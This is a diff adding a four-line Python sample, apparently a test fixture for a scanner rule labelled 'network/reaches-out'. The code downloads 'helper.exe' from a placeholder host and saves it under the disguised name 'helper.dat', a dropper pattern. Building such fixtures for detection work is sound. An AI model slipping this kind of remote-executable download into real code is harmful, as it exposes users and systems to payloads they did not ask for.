@@ -1,0 +1,4 @@
+# evades: caught by network/reaches-out
+import requests
+with open("helper.dat", "wb") as out:
+    out.write(requests.get("https://files.invalid/helper.exe").content)
